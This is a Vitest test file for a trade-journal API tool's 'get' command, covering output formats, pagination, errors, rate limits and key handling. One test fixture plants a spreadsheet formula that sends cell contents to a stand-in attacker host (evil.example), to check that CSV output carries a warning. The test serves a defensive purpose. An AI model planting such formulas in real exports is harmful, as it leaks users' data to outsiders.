/** `get`: the API from a shell, in the same process or over HTTP. */
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { listen } from '../../src/http/server.ts';
import { listKeys } from '../../src/keys/store.ts';
import { temporaryFolder, tradeRow, World } from '../helpers.ts';
import { run, runHere, startServe } from '../program.ts';

let world: World;
let key: string;
let home: string;

beforeEach(() => {
  world = new World();
  world.now = Date.now();
  key = world.key();
  home = world.files.home;
  world.insert(
    'trades',
    tradeRow('t-1', {
      symbol: 'BRK B',
      executed_at: '2026-11-10T14:30:00.000Z',
      tags: '["a,b","\\"c\\""]',
    }),
    tradeRow('t-2', { executed_at: '2026-11-11T14:30:00.000Z', notes: ' two\nlines' }),
    tradeRow('t-3', { executed_at: '2026-11-12T14:30:00.000Z' }),
  );
});

const get = (...args: string[]) =>
  runHere(['get', ...args, '--home', home], { env: { JOURNAL_API_KEY: key } });

const ids = (text: string) => JSON.parse(text).data.map(({ id }: { id: string }) => id);

describe('the response', () => {
  test.each(['trades', 'v1/trades', '/v1/trades'])(
    'of %s is the same as from the API, byte for byte',
    async (path) => {
      const { code, stdout, stderr } = await get(path);
      expect([code, stderr]).toEqual([0, '']);
      expect(stdout).toBe(`${(await world.ask('/v1/trades', { key })).text}\n`);
    },
  );

  test('takes parameters after a ? or separately without encoding', async () => {
    expect(ids((await get('trades?limit=2')).stdout)).toEqual(['t-3', 't-2']);
    expect(ids((await get('trades', 'symbol=BRK B', 'limit=2')).stdout)).toEqual(['t-1']);
    expect(ids((await get('trades?limit=2', 'end=2026-11-10')).stdout)).toEqual(['t-1']);
  });

  test('of a public path needs no key', async () => {
    const { code, stdout } = await run(['get', '/healthz', '--home', home]);
    expect([code, stdout]).toEqual([0, '{"data":{"status":"ok"}}\n']);
  });

  test('records the use of the key', async () => {
    await get('me');
    expect(listKeys(world.files.keys)[0]?.last_used_at).toMatch(/^20/);
  });
});

test('--csv writes formulas unescaped, and its help warns of them', async () => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Total")';
  world.insert(
    'trades',
    tradeRow('t-4', { executed_at: '2026-11-13T14:30:00.000Z', notes: formula }),
  );
  const { stdout } = await get('trades', 'limit=1', '--csv', '--fields', 'notes');
  expect(stdout).toContain(`"${formula.replaceAll('"', '""')}"`);
  expect((await runHere(['get', '--help'])).stdout).toMatch(/spreadsheet .* formula/);
});

describe('--all', () => {
  test('follows the cursors from page to page', async () => {
    const { code, stdout } = await get('trades', 'limit=1', '--all');
    expect([code, ids(stdout)]).toEqual([0, ['t-3', 't-2', 't-1']]);
    expect(JSON.parse(stdout).pagination).toEqual({
      limit: 3,
      has_more: false,
      next_cursor: null,
    });
  });

  test('of an empty list is an empty page', async () => {
    expect(JSON.parse((await get('sessions', '--all')).stdout).data).toEqual([]);
  });

  test('--jsonl prints a record per line, and a response that is not a list as one line', async () => {
    const { stdout } = await get('trades', 'limit=2', '--all', '--jsonl');
    expect(
      stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).id),
    ).toEqual(['t-3', 't-2', 't-1']);
    expect(JSON.parse((await get('me', '--jsonl')).stdout)).toHaveProperty('user');
  });

  test('CSV and JSON output imports again without changes', async () => {
    const folder = temporaryFolder();
    for (const [file, flag] of [
      ['trades.csv', ['--csv']],
      ['trades.jsonl', ['--jsonl']],
      ['trades.json', []],
    ] as const) {
      const path = join(folder, file);
      writeFileSync(path, (await get('trades', '--all', ...flag)).stdout);
      const imported = await runHere(['import', path, '--json', '--home', home]);
      expect([file, JSON.parse(imported.stdout).files]).toEqual([
        file,
        [expect.objectContaining({ added: 0, changed: 0, unchanged: 3 })],
      ]);
    }
  });
});

describe('an error goes to stderr, with nothing on stdout', () => {
  test.each([
    [
      ['trades', 'limit=0'],
      1,
      /^journal-api: 400 invalid_parameter: limit must be a whole number/,
    ],
    [['trades', 'symbol=a', 'symbol=b'], 1, /sent more than once/],
    [['nothing'], 1, /^journal-api: 404 not_found/],
    [['trades', 'limit'], 2, /parameters are written name=value; got "limit"/],
    [['trades', '--csv', '--jsonl'], 2, /exclude each other/],
    [['/openapi.json', '--csv'], 2, /returns no records/],
    [['trades', '--url', 'ftp://x'], 2, /--url takes the address of a service/],
    [
      ['trades', '--url', 'http://user:pw@localhost'],
      2,
      /--url takes the address of a service/,
    ],
    [
      ['trades', '--key-file', '/nowhere/key'],
      1,
      /can't read the key file \/nowhere\/key: there is no such file or folder\n/,
    ],
  ] as const)('%j', async (args, expected, message) => {
    const { code, stdout, stderr } = await get(...args);
    expect([code, stdout]).toEqual([expected, '']);
    expect(stderr).toMatch(message);
  });

  test.each(['get me', 'summary'])(
    '%s with a refused key exits with 4',
    async (command) => {
      const env = { JOURNAL_API_KEY: key.replace(/....$/, 'AAAA') };
      const { code, stdout, stderr } = await runHere(
        [...command.split(' '), '--home', home],
        {
          env,
        },
      );
      expect([code, stdout]).toEqual([4, '']);
      expect(stderr).toMatch(/^journal-api: 401 /);
    },
  );

  test('no key', async () => {
    const { code, stderr } = await run(['get', 'trades', '--home', home]);
    const [, command = ''] =
      /export JOURNAL_API_KEY=\$\(journal-api (.*)\)\n$/.exec(stderr) ?? [];
    expect([code, stderr.trim().split('\n')]).toEqual([
      2,
      [expect.stringContaining('pass --key-file')],
    ]);
    const made = await runHere([...command.split(' '), '--home', home]);
    const env = { JOURNAL_API_KEY: made.stdout.trim() };
    expect(await runHere(['get', 'trades', '--home', home], { env })).toMatchObject({
      code: 0,
    });
  });

  test('no data folder, and none is created', async () => {
    const nowhere = join(home, 'nowhere');
    const { code, stderr } = await runHere(['get', 'trades', '--home', nowhere], {
      env: { JOURNAL_API_KEY: key },
    });
    expect([code, stderr]).toEqual([1, expect.stringContaining('key create')]);
    expect((await runHere(['check', '--home', nowhere])).stderr).toMatch(
      /can't check the journal/,
    );
  });
});

describe('--url', () => {
  test('asks a running service, with the key in a file', async () => {
    const { url } = await startServe(['--home', home, '--log', 'off']);
    const file = join(temporaryFolder(), 'key');
    writeFileSync(file, `${key}\n`);
    const { code, stdout } = await run([
      'get',
      'trades',
      '--all',
      'limit=2',
      '--url',
      url,
      '--key-file',
      file,
    ]);
    expect([code, ids(stdout)]).toEqual([0, ['t-3', 't-2', 't-1']]);
  });

  test('waits as long as the rate limit requires, then continues', async () => {
    const slow = new World({}, { rateLimit: 60 });
    slow.now = Date.now();
    const env = { JOURNAL_API_KEY: slow.key() };
    for (let i = 0; i < 60; i++) await slow.ask('/v1/me', { key: env.JOURNAL_API_KEY });
    const server = await listen(slow.app, { host: '127.0.0.1', port: 0 });
    onTestFinished(() => server.close());
    const answered = runHere(['get', 'me', '--url', server.url], { env });
    while (!slow.log.some((line) => line.includes('"status":429'))) await sleep(10);
    slow.now += 1000;
    const { code, stdout, stderr } = await answered;
    expect([code, JSON.parse(stdout).data.user.id]).toEqual([0, 'me']);
    expect(stderr).toBe(
      'journal-api: this key has 60 requests a minute; try again in 1 s; waiting\n',
    );
  });

  test('gives up with the reason if the rate limit stays reached', async () => {
    let asked = 0;
    const busy = createServer((_request, response) => {
      asked++;
      response.writeHead(429, {
        'Content-Type': 'application/problem+json',
        'Retry-After': '0',
      });
      response.end(
        JSON.stringify({
          status: 429,
          code: 'rate_limited',
          detail: 'this key is over its limit',
        }),
      );
    }).listen(0, '127.0.0.1');
    onTestFinished(() => void busy.close());
    await once(busy, 'listening');
    const url = `http://127.0.0.1:${(busy.address() as AddressInfo).port}`;
    const { code, stderr } = await runHere(['get', 'me', '--url', url], {
      env: { JOURNAL_API_KEY: key },
    });
    expect([code, asked]).toEqual([1, 5]);
    expect(stderr).toContain('this key is over its limit');
  });

  test('sends its key nowhere else', async () => {
    const asked: string[] = [];
    const other = createServer((request, response) => {
      asked.push(request.headers.authorization ?? '');
      response.end();
    }).listen(0, '127.0.0.1');
    const redirecting = createServer((_request, response) => {
      response
        .writeHead(302, {
          Location: `http://127.0.0.1:${(other.address() as AddressInfo).port}/`,
        })
        .end();
    }).listen(0, '127.0.0.1');
    onTestFinished(() => {
      other.close();
      redirecting.close();
    });
    await new Promise((resolve) => redirecting.once('listening', resolve));
    const url = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}`;
    const { code, stderr } = await runHere(['get', 'me', '--url', url], {
      env: { JOURNAL_API_KEY: key },
    });
    expect([code, stderr]).toEqual([1, expect.stringContaining('does not answer')]);
    expect(asked).toEqual([]);
  });
});
